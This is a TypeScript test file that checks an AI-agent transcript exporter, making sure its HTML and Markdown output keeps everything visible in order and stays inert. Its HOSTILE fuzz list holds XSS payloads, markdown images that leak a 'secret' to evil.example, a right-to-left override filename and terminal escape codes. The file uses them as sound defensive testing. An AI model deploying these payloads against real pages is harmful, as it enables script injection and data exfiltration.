// Exports contain everything the page shows, in order, and no active content.
import { readdirSync } from 'node:fs'
import { expect, test } from 'vitest'
import { chunk, EventWriter, tool, toolUpdate } from '../../test/event-writer.js'
import { expectInert, expectInertMarkdown } from '../../test/inert.js'
import { withSeeds, type Random } from '../../test/random.js'
import { readRecording } from '../../test/recording.js'
import {
  applyEvent,
  asPlainText,
  emptyTranscript,
  entryLine,
  foldEvents,
  forgetContent,
  HTML_END,
  htmlHead,
  htmlOf,
  escapeInvisible,
  inReadingOrder,
  type Item,
  markdownHead,
  markdownOf,
  type SessionEvent,
  type ToolCall,
  transcriptEntry,
  type TranscriptEntry,
} from '../index.js'
import { transcriptEntrySchema } from '../schemas.js'

const names = readdirSync(new URL('../../recordings/', import.meta.url)).map((file) =>
  file.replace('.jsonl', ''),
)
const ABOUT = {
  sessionId: 'f00',
  title: 'A title',
  agent: 'demo',
  createdAt: '2026-01-17T05:00:00Z',
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror="alert(1)">',
  '</style><script>alert(2)</script>',
  '</section></main><iframe srcdoc="<script>alert(3)</script>">',
  '![a](https://evil.example/?q=secret)',
  '[click](javascript:alert(4))',
  '```\n</pre><svg onload=alert(5)>\n```\n',
  '- ```\n![b](https://evil.example/b)\n',
  '   ```\n![c](https://evil.example/c)\n```\n![d](https://evil.example/d)\n',
  '```\nunclosed ![e](https://evil.example/e)',
  '\\<img src="https://evil.example/f">',
  '~~~\ncode\n```\n~~~\n![g](https://evil.example/g)',
  'rm \u202Eexe.txt\u202C',
  '\u001B]0;title\u0007\u001B[31mred\u001B[0m\u009B2J',
  '\r![h](https://evil.example/h)',
  'https://example.com/"onmouseover="alert(6)',
  "' onload='alert(7)",
  '&lt;script&gt; &amp;',
  '` `` ```` ',
  'plain words ',
  '\n\n',
]

/** All texts that a page shows of an item and a person may search for in the export. */
function visible(item: Item): string[] {
  switch (item.type) {
    case 'user':
    case 'text':
    case 'thought':
      return [asPlainText(item.text)]
    case 'tool':
      return [escapeInvisible(item.call.title), ...printed(item.call).map(asPlainText)]
    case 'plan':
      return item.entries.map(({ content }) => asPlainText(content))
    case 'permission':
      return [escapeInvisible(item.toolCall.title)]
    case 'question':
    case 'notice':
      return [asPlainText(item.message)]
    case 'turn_end':
      return item.error === undefined ? [] : [asPlainText(item.error.message)]
    default:
      return []
  }
}

function printed({ content, output }: ToolCall): string[] {
  const texts = content.flatMap((part) =>
    part.type === 'content' && part.content.type === 'text' ? [part.content.text] : [],
  )
  return output === undefined ? texts : [...texts, output]
}

const entriesOf = (items: readonly Item[]) =>
  inReadingOrder(items).map((item) => transcriptEntry(item))
const htmlFile = (entries: readonly TranscriptEntry[]) =>
  htmlHead(ABOUT) + entries.map((entry) => htmlOf(entry)).join('') + HTML_END
const markdownFile = (entries: readonly TranscriptEntry[]) =>
  markdownHead(ABOUT) + entries.map(markdownOf).join('')

const letters = (text: string) => text.replaceAll(/[^\p{L}\p{N}]+/gu, '')
const shownByHtml = (html: string) =>
  html
    .replace(/^[\s\S]*<main>/, '')
    .replaceAll(/<[^>]*>/g, ' ')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#39;', "'")
    .replaceAll('&amp;', '&')

function expectInOrder(wanted: readonly string[], text: string): void {
  const all = letters(text)
  let from = 0
  for (const want of wanted.map(letters)) {
    const at = all.indexOf(want, from)
    if (at < 0) throw new Error(`“${want}” is missing after ${from} in ${all}`)
    from = at
  }
}

function expectAll(items: readonly Item[]): void {
  const entries = entriesOf(items)
  expect(entries).toHaveLength(items.length)
  const parsed = entries.map((entry): unknown => JSON.parse(entryLine(entry)))
  expect(parsed).toEqual(entries)
  for (const entry of entries) expect(transcriptEntrySchema.parse(entry)).toEqual(entry)
  const ordered = inReadingOrder(items)
  for (const [index, item] of ordered.entries()) {
    expectInOrder(visible(item), shownByHtml(htmlOf(entries[index]!)))
    // Markdown writes `<` as `&lt;`, also when the agent did so.
    const written = visible(item).map((text) => text.replaceAll('&lt;', '<'))
    expectInOrder(written, markdownOf(entries[index]!).replaceAll(/&(?:lt|#\d+);|\\|^> ?/gm, ''))
  }
}

test.each(names)('%s: everything that was seen is in the transcript, in order', (name) => {
  const { items } = foldEvents(readRecording(name))
  expectAll(items)
  expectInert(htmlFile(entriesOf(items)))
  expectInertMarkdown(markdownFile(entriesOf(items)))
})

test('the lines have the shape that other tools read', () => {
  const { events } = new EventWriter()
    .prompt('t1', 'Hello')
    .think('Thinking about…')
    .say('Hi there!')
    .update(tool('c1', { title: 'List', kind: 'execute', rawInput: { command: 'ls -la' } }))
    .update(
      toolUpdate('c1', {
        status: 'completed',
        content: [{ type: 'content', content: { type: 'text', text: 'total 0' } }],
      }),
    )
    .end('t1')
  const lines = entriesOf(foldEvents(events).items).map(entryLine)
  expect(lines.map((line): unknown => JSON.parse(line))).toEqual([
    { role: 'user', text: 'Hello', timestamp: '1970-01-01T00:00:01.000Z' },
    { role: 'reasoning', text: 'Thinking about…', timestamp: '1970-01-01T00:00:03.000Z' },
    { role: 'assistant', text: 'Hi there!', timestamp: '1970-01-01T00:00:04.000Z' },
    {
      role: 'command',
      command: 'ls -la',
      output: 'total 0',
      status: 'completed',
      kind: 'execute',
      title: 'List',
      timestamp: '1970-01-01T00:00:05.000Z',
    },
    {
      role: 'status',
      status: 'success',
      stop_reason: 'end_turn',
      timestamp: '1970-01-01T00:00:07.000Z',
    },
  ])
})

test.each([
  [{ command: 'git', args: ['status', '--short'] }, 'git status --short'],
  [{ cmd: ['ls', '-la'] }, 'ls -la'],
  [{ command: ['bash', 7] }, 'Look around'],
  [{}, 'Look around'],
])('the command of %j is told whole', (rawInput, command) => {
  const { events } = new EventWriter()
    .prompt('t1', 'go')
    .update(tool('c1', { title: 'Look around', kind: 'execute', rawInput }))
    .end('t1')
  expect(entriesOf(foldEvents(events).items)).toContainEqual(expect.objectContaining({ command }))
})

test('who allowed what is said, and a diff shows what changed', () => {
  const content = [{ type: 'diff', path: 'a.txt', oldText: 'one\ntwo\n', newText: 'one\n2\n' }]
  const { events } = new EventWriter()
    .prompt('t1')
    .update(tool('c1', { title: 'Edit a.txt', kind: 'edit', content }))
    .ask('p1', { toolCallId: 'c1' })
    .answer('p1', 'yes')
    .update(toolUpdate('c1', { status: 'completed' }))
    .end('t1')
  const entries = entriesOf(foldEvents(events).items)
  expect(entries[2]).toMatchObject({
    role: 'permission',
    outcome: 'selected',
    option: 'Allow',
    reason: 'answered',
    by: 'ada',
  })
  expect(markdownFile(entries)).toContain('```diff\n one\n-two\n+2\n```')
  expect(markdownFile(entries)).toContain('“Allow” chosen by ada')
  expect(htmlFile(entries)).toContain('<del>-two\n</del><ins>+2\n</ins>')
})

test('a picture is in the file only as the data that the caller found', () => {
  const image = { type: 'image', mimeType: 'image/png', data: '', uri: '/media/1' }
  const { events } = new EventWriter()
    .prompt('t1')
    .update({ sessionUpdate: 'agent_message_chunk', content: image })
    .end('t1')
  const entry = entriesOf(foldEvents(events).items)[1]!
  expect(entry).toMatchObject({
    role: 'attachment',
    attachment: { type: 'image', mimeType: 'image/png', url: '/media/1' },
  })
  expect(htmlOf(entry)).not.toContain('<img')
  expect(
    htmlOf(entry, (url) => (url === '/media/1' ? 'data:image/png;base64,AA==' : undefined)),
  ).toContain('<img alt="image/png" src="data:image/png;base64,AA==">')
  expect(markdownOf(entry)).toContain('` /media/1 `')
})

test('hostile text is only ever text', () => {
  withSeeds(40, (random) => {
    const { items } = foldEvents(hostileSession(random))
    expectAll(items)
    expectInert(htmlFile(entriesOf(items)))
    expectInertMarkdown(markdownFile(entriesOf(items)))
  })
})

test('what was handed over may be forgotten while the rest goes on', () => {
  withSeeds(50, (random) => {
    const events = hostileSession(random)
    const whole = foldEvents(events)
    const light = emptyTranscript()
    for (const event of events) {
      for (const id of applyEvent(light, event)) {
        const item = light.items[light.index.get(id)!]!
        if (item.done && id !== light.run?.itemId) forgetContent(light, id)
      }
    }
    const shape = ({ id, type, seq, updatedSeq, done }: Item) => ({
      id,
      type,
      seq,
      updatedSeq,
      done,
    })
    expect(light.items.map(shape)).toEqual(whole.items.map(shape))
  })
})

function hostileSession(random: Random): readonly SessionEvent[] {
  const text = () =>
    Array.from({ length: 1 + random.below(4) }, () => random.pick(HOSTILE)).join('')
  const log = new EventWriter()
  for (let turn = 0; turn < 2; turn += 1) {
    log.prompt(`t${turn}`, text())
    for (let step = 0; step < 8; step += 1) addStep(log, random, text)
    log.end(`t${turn}`, random.pick(['end_turn', 'cancelled', '<b>odd</b>']))
    if (random.chance(0.5)) log.update(toolUpdate('c1', { title: text(), status: 'failed' }))
    if (random.chance(0.3)) log.say(text())
  }
  log.append({ type: 'notice', data: { severity: 'error', code: '<x>', message: text() } })
  return log.events
}

function addStep(log: EventWriter, random: Random, text: () => string): void {
  const content = [
    { type: 'content', content: { type: 'text', text: text() } },
    { type: 'diff', path: text(), oldText: text(), newText: text() },
    {
      type: 'content',
      content: { type: 'resource_link', uri: text() || 'x', name: text() || 'x' },
    },
  ]
  const toolCallId = `c${random.below(3)}`
  switch (random.below(6)) {
    case 0:
      return void log.say(text())
    case 1:
      return void log.think(text())
    case 2:
      return void log.update(
        tool(toolCallId, { title: text(), content, kind: random.pick(['execute', 'edit']) }),
      )
    case 3:
      return void log.update(
        toolUpdate(toolCallId, { status: random.pick(['completed', 'failed', '<i>']) }),
      )
    case 4:
      return void log.update({
        sessionUpdate: 'plan',
        entries: [{ content: text(), status: '<u>' }],
      })
    default:
      log.update(chunk('agent_message_chunk', text()))
      log.ask('p', { toolCallId, title: text() }).answer('p', random.pick(['yes', 'no', '<s>']))
  }
}
